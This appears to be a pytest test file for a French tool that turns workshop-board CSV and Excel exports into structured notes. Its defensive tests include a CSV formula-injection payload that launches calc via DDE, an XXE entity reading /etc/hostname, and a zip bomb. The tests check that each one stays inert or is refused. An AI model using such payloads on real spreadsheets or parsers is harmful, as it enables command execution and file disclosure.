"""Workshop boards (.csv, .xlsx): columns found by their names, categories as headings,
contributions as items, authors kept out, bounds, and hostile files.

Every file is written here, in tmp_path or in memory: CSV with the csv module in the
dialects and encodings the tools write, workbooks with openpyxl (parts rewritten where a
hostile file is needed). The corpus's two real CSV exports are read in place when
/work/shared/corpus-reel is there.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proceedings.errors import Diagnostics, SourceError
from proceedings.model import Note
from proceedings.read.readers import READERS, Found, boards, read_or_report
from proceedings.render.typography import spans_md
from proceedings.structure.notes import PROPOSAL_HEADING

CORPUS = Path("/work/shared/corpus-reel/6-ateliers-sondages")

BOARD = [
    ["Idée", "Auteur", "Colonne", "Votes"],
    ["Mieux communiquer\r\nentre services", "Léa Roux", "Ce qui marche", "3"],
    ["Un guichet unique", "Paul Roy", "Propositions", "1"],
    ["Un « référent » par quartier; vite", "Léa Roux", "Actions", ""],
    ["", "Léa Roux", "Actions", ""],
    ["Mieux communiquer\r\nentre services", "Jo", "Ce qui marche", "2"],
    ["Former les élus", "Jo", "Idées d’action", "12"],
]

BOARD_OUTLINE = [
    ("heading", "Ce qui marche", 2),
    ("item", "Mieux communiquer entre services (5 votes)", 2),
    ("heading", "Propositions", 4),
    ("item", "Un guichet unique (1 vote)", 4),
    ("heading", "Propositions : actions", 5),
    ("item", "Un « référent » par quartier; vite", 5),
    ("heading", "Propositions : idées d’action", 9),
    ("item", "Former les élus (12 votes)", 9),
]

BOARD_SUMMARY = [
    "tableau de contributions : 6 lignes, 4 contributions, 4 catégories, colonnes lues : "
    "texte « Idée », catégorie « Colonne », auteur « Auteur », votes « Votes »",
    "1 doublon fusionné",
    "1 ligne sans texte ignorée",
    "contributions par auteur (noms non publiés) : 2, 2, 1",
]


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8", **dialect: Any) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, **dialect).writerows(rows)
    return buffer.getvalue().encode(encoding)


def read_csv(data: bytes, diag: Diagnostics | None = None) -> Note:
    diag = Diagnostics() if diag is None else diag
    return boards.read_csv(data, "tableau.csv", "ev/tableau.csv", diag)


def read_xlsx(data: bytes, diag: Diagnostics | None = None) -> Note:
    diag = Diagnostics() if diag is None else diag
    return boards.read_xlsx(data, "tableau.xlsx", "ev/tableau.xlsx", diag)


def outline(note: Note) -> list[tuple[str, str, int]]:
    return [(b.kind, b.text, b.line) for b in note.blocks]


def workbook(*sheets: tuple[str, list[list[Any]]], hidden: tuple[str, ...] = ()) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
        if title in hidden:
            sheet.sheet_state = "hidden"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewritten(data: bytes, change: Callable[[str, bytes], bytes], *added: str) -> bytes:
    """The workbook with each part passed through ``change`` (and parts added)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info)), zipfile.ZIP_DEFLATED)
        for name in added:
            dst.writestr(name, change(name, b""), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def messages(diag: Diagnostics) -> list[str]:
    return [str(d) for d in diag]


# -- CSV: dialects, encodings, blocks -----------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "dialect", "separator", "conversion"),
    [
        ("utf-8", {}, "virgule", []),
        (
            "cp1252",
            {"delimiter": ";"},
            "point-virgule",
            ["encodage windows-1252 converti en UTF-8"],
        ),
        (
            "utf-8-sig",
            {"delimiter": "\t"},
            "tabulation",
            ["marque d’ordre des octets (BOM) retirée"],
        ),
        ("utf-8", {"delimiter": ";", "quoting": csv.QUOTE_ALL}, "point-virgule", []),
        ("utf-8", {"lineterminator": "\n", "quoting": csv.QUOTE_NONNUMERIC}, "virgule", []),
    ],
)
def test_csv_dialects_and_encodings_give_the_same_board(
    encoding: str, dialect: dict[str, Any], separator: str, conversion: list[str]
) -> None:
    diag = Diagnostics()
    note = read_csv(csv_bytes(BOARD, encoding, **dialect), diag)
    assert outline(note) == BOARD_OUTLINE
    assert list(note.conversions) == [*BOARD_SUMMARY, f"séparateur : {separator}", *conversion]
    assert note.format == "csv" and not list(diag)


def test_board_authors_are_never_in_the_text() -> None:
    note = read_csv(csv_bytes(BOARD))
    text = " ".join(b.text for b in note.blocks) + " ".join(note.conversions)
    assert "Léa" not in text and "Roux" not in text and "Jo " not in text
    assert note.meta.rapporteur == ""


def test_proposal_categories_become_headings_that_structure_reads_as_proposals() -> None:
    headings = [b.text for b in read_csv(csv_bytes(BOARD)).blocks if b.kind == "heading"]
    assert [bool(PROPOSAL_HEADING.match(h)) for h in headings] == [False, True, True, True]
    rows = [["Texte", "Catégorie"]] + [
        [f"idée {i}", name]
        for i, name in enumerate(
            ["Pistes d’action", "RECOMMANDATIONS", "Nos propositions", "Action", "Constats"]
        )
    ]
    headings = [b.text for b in read_csv(csv_bytes(rows)).blocks if b.kind == "heading"]
    assert headings == [
        "Pistes d’action",
        "RECOMMANDATIONS",
        "Nos propositions",
        "Propositions : action",
        "Constats",
    ]
    assert [bool(PROPOSAL_HEADING.match(h)) for h in headings] == [True] * 4 + [False]


def test_multi_line_fields_doubled_quotes_and_physical_lines() -> None:
    data = (
        'Contenu;Thème\r\n"Une idée\r\nsur trois\r\n\r\nlignes, dont un ""mot""";Mobilité\r\n'
        "Deuxième idée;Mobilité\r\n\r\n"
        '"Troisième\nidée";Habitat\r\n'
    ).encode()
    note = read_csv(data)
    assert outline(note) == [
        ("heading", "Mobilité", 2),
        ("item", 'Une idée sur trois\nlignes, dont un "mot"', 2),
        ("item", "Deuxième idée", 6),
        ("heading", "Habitat", 8),
        ("item", "Troisième idée", 8),
    ]


def test_rows_without_category_go_under_their_own_heading() -> None:
    rows = [["Réponse", "Question"], ["Oui", ""], ["Non", "Q1"], ["Peut-être", ""]]
    assert outline(read_csv(csv_bytes(rows))) == [
        ("heading", "Sans catégorie", 2),
        ("item", "Oui", 2),
        ("item", "Peut-être", 4),
        ("heading", "Q1", 3),
        ("item", "Non", 3),
    ]


def test_formulas_are_text_never_evaluated_and_stay_inert_in_the_master() -> None:
    rows = [
        ["Texte"],
        ['=HYPERLINK("http://exemple.invalid/?"&A1;"clic")'],
        ["=cmd|' /C calc'!A0"],
        ["+33 6 00 00 00 00"],
        ["-2+3"],
        ["@SUM(A1:A2)"],
    ]
    note = read_csv(csv_bytes(rows, delimiter=","))
    assert [b.text for b in note.blocks] == [r[0] for r in rows[1:]]
    # In the Markdown master, each starts with an escaped character: plain text for pandoc.
    rendered = [spans_md(b.spans) for b in note.blocks]
    assert [r[:2] for r in rendered] == ["\\=", "\\=", "\\+", "\\-", "\\@"]


def test_windows_characters_decoded_as_latin1_are_given_back() -> None:
    data = "Idée\nd\x92autres « idées » \x85 et \x9cuvres\x07\n".encode()
    note = read_csv(data)
    assert [b.text for b in note.blocks] == ["d’autres « idées » … et œuvres"]
    assert note.conversions[-1] == "3 caractères Windows-1252 mal codés rétablis"


# -- column names ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "read"),
    [
        (
            ["Content", "Category", "Author", "Likes"],
            "texte « Content », catégorie « Category », auteur « Author », votes « Likes »",
        ),
        (
            ["IDEES", "categorie", "PARTICIPANT·E", "nombre de votes"],
            "texte « IDEES », catégorie « categorie », auteur « PARTICIPANT·E », "
            "votes « nombre de votes »",
        ),
        (
            ["Votre idée", "Nom de la colonne", "Nom de l’auteur", "Nb votes"],
            "texte « Votre idée », catégorie « Nom de la colonne », auteur « Nom de l’auteur », "
            "votes « Nb votes »",
        ),
        (
            ["Réponse", "Thème", "Date", "Question"],  # a theme of digits is no category
            "texte « Réponse », catégorie « Question »",
        ),
    ],
)
def test_columns_are_found_by_their_names_in_french_or_english(
    header: list[str], read: str
) -> None:
    rows = [header, ["Une idée", "Mobilité", "Léa", "4"], ["Une autre", "Mobilité", "Jo", "x"]]
    if header[1] == "Thème":
        rows = [header, ["Une idée", "2", "2024-03-12", "Q1"], ["Une autre", "3", "", "Q1"]]
    diag = Diagnostics()
    note = read_csv(csv_bytes(rows), diag)
    assert note.conversions[0].endswith(f"colonnes lues : {read}")
    assert not list(diag)


def test_title_lines_before_the_header_and_repeated_headers_are_left_out() -> None:
    rows = [
        ["Atelier mobilité — export Klaxoon"],
        [],
        ["Idée", "Couleur"],
        ["Des bus", "jaune"],
        ["Idée", "Couleur"],  # a second export put after the first
        ["Des trams", "vert"],
    ]
    note = read_csv(csv_bytes(rows))
    assert outline(note) == [("item", "Des bus", 4), ("item", "Des trams", 6)]
    assert note.conversions[1:3] == (  # a blank line is nothing to tell
        "1 ligne avant l’en-tête ignorée",
        "1 en-tête répété ignoré",
    )


def test_without_known_names_the_longest_column_is_the_text_with_a_warning() -> None:
    rows = [
        ["Horodateur", "Q1", "Q2"],
        ["12/03/2024 10:00", "Oui", "Il faudrait plus de bus le soir"],
        ["12/03/2024 10:05", "Non", "Des pistes cyclables sûres"],
    ]
    diag = Diagnostics()
    note = read_csv(csv_bytes(rows), diag)
    assert [b.text for b in note.blocks] == [r[2] for r in rows[1:]]
    assert messages(diag) == [
        "ev/tableau.csv:1: avertissement : aucune colonne de texte reconnue (en-têtes attendus "
        ": texte, contenu, idée, réponse…) : la colonne « Q2 », la plus fournie, est lue comme "
        "texte des contributions"
    ]


def test_a_single_column_without_header_is_a_list_of_contributions() -> None:
    diag = Diagnostics()
    note = read_csv("Une idée\nUne autre idée\n".encode(), diag)
    assert outline(note) == [("item", "Une idée", 1), ("item", "Une autre idée", 2)]
    assert note.conversions[0] == (
        "tableau de contributions : 2 lignes, 2 contributions, colonnes lues : texte « colonne 1 »"
    )
    assert not list(diag)


def test_a_board_of_numbers_only_is_refused_with_its_line() -> None:
    with pytest.raises(SourceError) as refused:
        read_csv(b"Date;Note\n12/03/2024;4\n13/03/2024;5\n")
    assert str(refused.value) == (
        "ev/tableau.csv:1: aucune colonne de ce tableau ne contient de texte (seulement des "
        "nombres, des dates, des adresses ou des noms)"
    )


def test_a_header_alone_is_an_empty_note() -> None:
    note = read_csv(b"Idee;Auteur\n")
    assert note.blocks == () and note.words == 0


# -- bounds -----------------------------------------------------------------------------


def test_rows_beyond_the_bound_are_left_out_with_a_warning(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(boards, "MAX_ROWS", 3)
    diag = Diagnostics()
    note = read_csv(csv_bytes([["Idée"], ["a1"], ["", ""], ["a2"], ["a3"], ["a4"]]), diag)
    assert [b.text for b in note.blocks] == ["a1", "a2"]
    assert messages(diag) == [
        "ev/tableau.csv:5: avertissement : plus de 3 lignes : seules les 3 premières sont lues"
    ]


def test_long_cells_are_cut_and_told_at_most_ten_times(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(boards, "MAX_CELL", 10)
    rows = [["Idée"]] + [[f"contribution numéro {i}"] for i in range(12)]
    diag = Diagnostics()
    note = read_csv(csv_bytes(rows), diag)
    assert note.blocks[0].text == "contributi […]"
    assert messages(diag)[0] == (
        "ev/tableau.csv:2: avertissement : cellule de plus de 10 caractères (colonne 1), coupée"
    )
    assert messages(diag)[10:] == [
        "ev/tableau.csv: avertissement : 2 autres cellules coupées à 10 caractères"
    ]
    assert len(note.blocks) == 1  # cut the same, the twelve are duplicates


def test_columns_beyond_the_bound_are_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(boards, "MAX_COLUMNS", 2)
    rows = [["Idée", "Colonne", "Auteur"], ["a", "b", "Léa"], ["c", "b", ""]]
    diag = Diagnostics()
    note = read_csv(csv_bytes(rows), diag)
    assert note.conversions[0].endswith("colonnes lues : texte « Idée », catégorie « Colonne »")
    assert messages(diag) == [
        "ev/tableau.csv:1: avertissement : ligne de plus de 2 colonnes : seules les 2 premières "
        "sont lues"
    ]


def test_a_line_of_thousands_of_delimiters_stops_the_reading(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(boards, "MAX_COLUMNS", 2)
    diag = Diagnostics()
    note = read_csv(b"Id\xc3\xa9e;Colonne\nune;A\n" + b";" * 201 + b"\nsuite;A\n", diag)
    assert [b.text for b in note.blocks] == ["A", "une"]
    assert messages(diag) == [
        "ev/tableau.csv:3: avertissement : ligne de plus de 200 séparateurs : lecture arrêtée, "
        "la suite du fichier est ignorée"
    ]


def test_a_quote_never_closed_is_told() -> None:
    diag = Diagnostics()
    note = read_csv(b'Idee,Date\nune,1/3\n"deux,2/3\ntrois,3/3\n', diag)
    assert [b.text for b in note.blocks] == ["une", "deux,2/3 trois,3/3"]
    assert messages(diag) == [
        "ev/tableau.csv:3: avertissement : guillemet ouvert jamais fermé : la fin du fichier "
        "est lue comme une seule cellule"
    ]
    diag = Diagnostics()
    note = read_csv(b'Idee\nune\n"' + b"x" * (csv.field_size_limit() + 1) + b"\n", diag)
    assert [b.text for b in note.blocks] == ["une"]
    assert messages(diag) == [
        "ev/tableau.csv:3: avertissement : cellule de plus de 131\u202f072 caractères (guillemet "
        "jamais fermé ?) : lecture arrêtée, la suite du fichier est ignorée"
    ]


# -- hostile CSV ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"Idee\n\x00\x01\x02binaire", "fichier binaire (octets nuls), pas un texte"),
        (
            bytes(range(1, 32)) * 20,
            "fichier binaire (caractères de contrôle), pas un tableau CSV",
        ),
        (
            b"PK\x03\x04" + bytes(100),
            "ce fichier n’est pas un tableau CSV mais une archive zip (un classeur Excel "
            ".xlsx ?) : donnez-lui l’extension .xlsx, ou enregistrez-le au format CSV",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
            "ce fichier n’est pas un tableau CSV mais un document Office 97-2003 (un classeur "
            ".xls ?) : enregistrez-le au format CSV ou .xlsx",
        ),
    ],
)
def test_binary_files_named_csv_are_refused(data: bytes, message: str) -> None:
    with pytest.raises(SourceError) as refused:
        read_csv(data)
    assert str(refused.value) == f"ev/tableau.csv: {message}"


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=600) | st.text(max_size=400).map(str.encode))
def test_random_bytes_give_a_note_or_a_clean_error(data: bytes) -> None:
    for reader, name in ((boards.read_csv, "x.csv"), (boards.read_xlsx, "x.xlsx")):
        try:
            note = reader(data, name, f"ev/{name}", Diagnostics())
        except SourceError as exc:
            assert exc.message and exc.path == f"ev/{name}"
        else:
            assert isinstance(note, Note)


# -- Excel ------------------------------------------------------------------------------


def test_xlsx_board_first_non_empty_sheet_and_row_numbers() -> None:
    data = workbook(
        ("Vide", []),
        (
            "Tableau",
            [
                ["Atelier mobilité"],
                [],
                ["Contenu", "Catégorie", "Participant", "Likes", "Date"],
                ["Des vélos\nen libre service", "Pistes", "Ana", 4, "2024-03-12"],
                ["Plus de bus", "Constats", None, 2.0],
                ["#N/A", "Constats", "Bo", 1],
                ["Des vélos\nen libre service", "Pistes", "Bo", 1],
            ],
        ),
        ("Notes", [[None, None, "brouillon"]]),
        ("Masquée", [["x"]]),
        hidden=("Masquée",),
    )
    diag = Diagnostics()
    note = read_xlsx(data, diag)
    assert note.format == "xlsx"
    assert outline(note) == [
        ("heading", "Pistes", 4),
        ("item", "Des vélos en libre service (5 votes)", 4),
        ("heading", "Constats", 5),
        ("item", "Plus de bus (2 votes)", 5),
    ]
    assert list(note.conversions) == [
        "tableau de contributions : 4 lignes, 2 contributions, 2 catégories, colonnes lues : "
        "texte « Contenu », catégorie « Catégorie », auteur « Participant », votes « Likes »",
        "1 ligne avant l’en-tête ignorée",
        "1 doublon fusionné",
        "1 ligne sans texte ignorée",
        "contributions par auteur (noms non publiés) : 1, 1 ; 1 contribution sans auteur",
        "feuille « Tableau »",
    ]
    assert messages(diag) == [
        "ev/tableau.xlsx: avertissement : 2 autres feuilles non vides ignorées : « Notes », "
        "« Masquée » (seule la première, « Tableau », est lue)"
    ]


def test_xlsx_formulas_give_their_last_shown_value_never_computed() -> None:
    data = workbook(("Feuille", [["Idée"], ["placeholder"], ["=1+1"]]))
    sheet = "xl/worksheets/sheet1.xml"
    cached = b'<c r="A2" t="str"><f>HYPERLINK("http://exemple.invalid","clic")</f><v>clic</v></c>'

    def change(name: str, part: bytes) -> bytes:
        if name != sheet:
            return part
        start = part.index(b'<c r="A2"')
        return part[:start] + cached + part[part.index(b"</c>", start) + 4 :]

    note = read_xlsx(rewritten(data, change))
    assert [b.text for b in note.blocks] == ["clic"]  # =1+1 has no value shown: left out
    assert note.conversions[0].startswith("tableau de contributions : 1 ligne, 1 contribution")


def test_xlsx_escaped_control_characters_and_text_cells() -> None:
    note = read_xlsx(
        workbook(("F", [["Texte"], ["ligne 1_x000D_\nligne 2"], ["=cmd|'/C calc'!A0"]]))
    )
    # openpyxl writes « =… » as a formula without value: no text. A typed text stays text.
    assert [b.text for b in note.blocks] == ["ligne 1 ligne 2"]


def test_xlsx_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(boards, "MAX_ROWS", 3)
    monkeypatch.setattr(boards, "MAX_COLUMNS", 2)
    diag = Diagnostics()
    note = read_xlsx(
        workbook(("F", [["Idée", "Colonne", "Auteur"], ["a", "A", "Léa"], ["b"], ["c"]])), diag
    )
    assert [b.text for b in note.blocks] == ["A", "a", "Sans catégorie", "b"]
    assert messages(diag) == [
        "ev/tableau.xlsx:1: avertissement : ligne de plus de 2 colonnes : seules les 2 premières "
        "sont lues",
        "ev/tableau.xlsx:4: avertissement : plus de 3 lignes : seules les 3 premières sont lues",
    ]


# -- hostile Excel ----------------------------------------------------------------------

XLSX = "ev/tableau.xlsx: classeur Excel (.xlsx)"


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", f"{XLSX} vide (0 octet)"),
        (
            bytes([0x89, 0, 0xFF, 0x10]) * 50,
            f"{XLSX} endommagé ou tronqué : ce n’est pas une archive valide",
        ),
        (
            "Idée;Colonne\nUne idée;A\n".encode(),
            "ev/tableau.xlsx: ce fichier n’est pas un classeur Excel (.xlsx) mais du texte (un "
            "tableau CSV ?) : donnez-lui l’extension .csv",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
            "ev/tableau.xlsx: ce fichier n’est pas un classeur Excel (.xlsx) : il est protégé par "
            "mot de passe ou au format Excel 97-2003 (.xls) ; ouvrez-le et enregistrez-le sans "
            "mot de passe au format .xlsx",
        ),
        (
            _zip(
                {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b""}
            ),
            "ev/tableau.xlsx: ce fichier n’est pas un classeur Excel (.xlsx) mais un document "
            "LibreOffice (.ods ?) : enregistrez-le au format .xlsx ou CSV",
        ),
        (
            _zip({"[Content_Types].xml": b"<Types/>"}),
            f"{XLSX} incomplet : la partie « xl/workbook.xml » manque",
        ),
    ],
)
def test_files_that_are_not_workbooks_are_refused(data: bytes, message: str) -> None:
    with pytest.raises(SourceError) as refused:
        read_xlsx(data)
    assert str(refused.value) == message


def test_a_workbook_cut_short_or_damaged_is_refused_cleanly() -> None:
    data = workbook(("F", [["Idée"], ["une"]]))
    with pytest.raises(SourceError) as refused:
        read_xlsx(data[: len(data) // 2])
    assert str(refused.value) == f"{XLSX} endommagé ou tronqué : ce n’est pas une archive valide"
    broken = rewritten(data, lambda n, p: b"<worksheet><sheetData><row" if "sheet1" in n else p)
    with pytest.raises(SourceError) as refused:
        read_xlsx(broken)
    assert str(refused.value) == (
        f"{XLSX} illisible : une de ses parties est endommagée ; ouvrez-le et enregistrez-le "
        "de nouveau au format .xlsx, ou au format CSV"
    )


def test_a_zip_bomb_is_refused_from_what_it_decompresses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(boards, "MAX_UNZIPPED", 1 << 20)
    data = rewritten(
        workbook(("F", [["Idée"]])),
        lambda n, p: bytes(2 << 20) if "media" in n else p,
        "xl/media/image1.png",
    )
    assert len(data) < 20_000
    with pytest.raises(SourceError) as refused:
        read_xlsx(data)
    assert str(refused.value) == (
        f"{XLSX} refusé : une fois décompressé, il dépasserait 1,0 Mo (limite atteinte dans la "
        "partie « xl/media/image1.png ») ; un document réel en fait quelques dizaines de "
        "mégaoctets au plus"
    )


def _with_sheet(change: Callable[[bytes], bytes]) -> bytes:
    data = workbook(("F", [["Idée", "Colonne"], ["une", "A"], ["deux", "A"]]))
    return rewritten(data, lambda n, p: change(p) if n == "xl/worksheets/sheet1.xml" else p)


def test_entities_and_oversized_parts_are_refused_before_openpyxl(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    doctype = _with_sheet(
        lambda p: (
            b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
            + p.replace(b"<t>une</t>", b"<t>&x;</t>")
        )
    )
    monkeypatch.setattr(boards, "MAX_ROW_CELLS", 50)
    wide = _with_sheet(lambda p: p.replace(b"</row>", b"<c/>" * 51 + b"</row>", 1))
    monkeypatch.setattr(boards, "MAX_PARSED_TAGS", 1000)
    styles = rewritten(
        _with_sheet(lambda p: p),
        lambda n, p: (
            p.replace(b"</cellXfs>", b"<xf/>" * 1000 + b"</cellXfs>") if n == "xl/styles.xml" else p
        ),
    )
    monkeypatch.setattr(boards, "MAX_TAGS", 5000)
    junk = _with_sheet(lambda p: p.replace(b"</sheetData>", b"<x/>" * 5000 + b"</sheetData>"))
    expected = [
        (doctype, "la partie « xl/worksheets/sheet1.xml » contient une déclaration XML "
         "(DOCTYPE ou ENTITY) qu’aucun tableur n’écrit"),
        (wide, "une ligne de la partie « xl/worksheets/sheet1.xml » compte plus de 50 "
         "cellules, le maximum d’Excel"),
        (styles, "la partie « xl/styles.xml » compte plus de 1\u202f000 balises XML ; un "
         "classeur réel en compte bien moins"),
        (junk, "la partie « xl/worksheets/sheet1.xml » compte plus de 5\u202f000 balises XML ; "
         "un classeur réel en compte bien moins"),
    ]  # fmt: skip
    for data, message in expected:
        with pytest.raises(SourceError) as refused:
            read_xlsx(data)
        assert str(refused.value) == f"{XLSX} refusé : {message}"


def test_large_sheets_are_streamed_not_bounded_as_parts_built_whole(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A sheet and the shared strings are read row by row: only MAX_TAGS bounds them."""
    monkeypatch.setattr(boards, "MAX_PARSED_TAGS", 150)  # the styles of openpyxl: 107
    rows = [["Idée", "Colonne"]] + [[f"idée {i}", "A"] for i in range(200)]
    assert len(read_xlsx(workbook(("F", rows))).blocks) == 201


def test_two_sheets_of_one_part_are_refused() -> None:
    data = workbook(("A", [["Idée"], ["une"]]), ("B", [["Idée"], ["deux"]]))
    twice = rewritten(
        data,
        lambda n, p: (
            p.replace(b"worksheets/sheet2.xml", b"worksheets/sheet1.xml")
            if n == "xl/_rels/workbook.xml.rels"
            else p
        ),
    )
    with pytest.raises(SourceError) as refused:
        read_xlsx(twice)
    assert str(refused.value) == (
        f"{XLSX} refusé : plusieurs de ses feuilles désignent la même partie "
        "« xl/worksheets/sheet1.xml »"
    )


def test_an_encrypted_member_is_refused() -> None:
    data = bytearray(workbook(("F", [["Idée"], ["une"]])))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/workbook.xml")
    data[info.header_offset + 6] |= 1  # the « encrypted » flag, in the local header…
    at = bytes(data).index(b"PK\x01\x02")
    while data[at + 46 : at + 46 + len(info.filename)] != info.filename.encode():
        at = bytes(data).index(b"PK\x01\x02", at + 4)
    data[at + 8] |= 1  # … and in the central directory
    with pytest.raises(SourceError) as refused:
        read_xlsx(bytes(data))
    assert str(refused.value) == (
        f"{XLSX} dont la partie « xl/workbook.xml » est chiffrée : enregistrez-le sans mot de passe"
    )


# -- registry and build ----------------------------------------------------------------


def test_boards_are_registered_and_read_as_notes(tmp_path: Path) -> None:
    assert READERS[".csv"] is boards.read_csv and READERS[".xlsx"] is boards.read_xlsx
    (tmp_path / "ateliers").mkdir()
    bad = tmp_path / "ateliers" / "sondage.xlsx"
    bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    good = tmp_path / "ateliers" / "tableau.csv"
    good.write_bytes(csv_bytes(BOARD, "cp1252", delimiter=";"))
    diag = Diagnostics()
    found = [Found(p, f"ateliers/{p.name}", p.as_posix(), READERS[p.suffix]) for p in (bad, good)]
    assert read_or_report(found[0], diag) is None
    note = read_or_report(found[1], diag)
    assert note is not None and outline(note) == BOARD_OUTLINE and note.digest
    assert messages(diag) == [
        f"{bad.as_posix()}: ce fichier n’est pas un classeur Excel (.xlsx) : il est protégé "
        "par mot de passe ou au format Excel 97-2003 (.xls) ; ouvrez-le et enregistrez-le sans "
        "mot de passe au format .xlsx, fichier ignoré"
    ]


# -- the corpus's real exports ----------------------------------------------------------


def _records(path: Path) -> list[tuple[int, list[str]]]:
    """Each record of a CSV file with the physical line where it starts, by the csv module."""
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        records, start = [], 1
        for record in reader:
            records.append((start, record))
            start = reader.line_num + 1
    return records


# The exports hold Windows-1252 characters decoded as Latin-1 (« d\x92autres »): the reader
# gives them back, as Windows would have shown them.
_WINDOWS = {c: bytes([c]).decode("cp1252", "ignore") or None for c in range(0x80, 0xA0)}


def _plain(text: str) -> str:
    return " ".join(text.translate(_WINDOWS).split())


@pytest.mark.skipif(not CORPUS.is_dir(), reason="corpus réel absent (/work/shared/corpus-reel)")
@pytest.mark.parametrize(
    "name", ["crowdsource_resultat_syntheses.csv", "crowdsource_resultat_analyses.csv"]
)
def test_the_corpus_exports_are_read_in_place(name: str) -> None:
    path = CORPUS / name
    if not path.exists():
        pytest.skip(f"{name} absent du corpus")
    diag = Diagnostics()
    note = boards.read_csv(path.read_bytes(), name, path.as_posix(), diag)
    assert not list(diag)
    records = _records(path)
    header, data = records[0][1], records[1:]
    text, question = header.index("text"), header.index("question")
    with_text = [(line, r) for line, r in data if r[text].strip()]
    distinct = {(_plain(r[question]), _plain(r[text])) for _, r in with_text}
    assert note.conversions[0] == (
        f"tableau de contributions : {boards.count_text(len(data))} lignes, "
        f"{boards.count_text(len(distinct))} contributions, 4 catégories, colonnes lues : "
        "texte « text », catégorie « question »"
    )
    items = [b for b in note.blocks if b.kind == "item"]
    assert len(items) == len(distinct)
    # Each item is the text of the record that starts on its line (first occurrence).
    starts = {line: r for line, r in with_text}
    for item in items:
        assert _plain(starts[item.line][text]) == " ".join(item.text.split())
    assert items[0].line == 2
    headings = [b.text for b in note.blocks if b.kind == "heading"]
    assert all(h.startswith("Si vous avez d’autres informations") for h in headings)
    if name.endswith("syntheses.csv"):
        assert len(data) == 1808 and b"\r\n" in path.read_bytes()


def test_a_list_of_participants_is_not_a_board(tmp_path: Path) -> None:
    """An attendee list dropped by mistake is left out with a message, never published as
    contributions (its « Organisation » column would otherwise be read as the text)."""
    data = (
        "Nom;Prénom;Email;Organisation\n"
        "Roux;Léa;lea.roux@exemple.org;Mairie de Dinan\n"
        "Morvan;Claire;claire@exemple.org;Association des jardins partagés\n"
    ).encode()
    with pytest.raises(SourceError) as info:
        boards.read_csv(data, "p.csv", "ev/p.csv", Diagnostics())
    assert str(info.value) == (
        "ev/p.csv:1: ce tableau ressemble à une liste de participants (colonnes « Nom », "
        "« Prénom », « Email », « Organisation »), pas à des contributions : fichier ignoré "
        "(nommez « Texte » ou « Idée » la colonne des contributions si c’en est une)"
    )
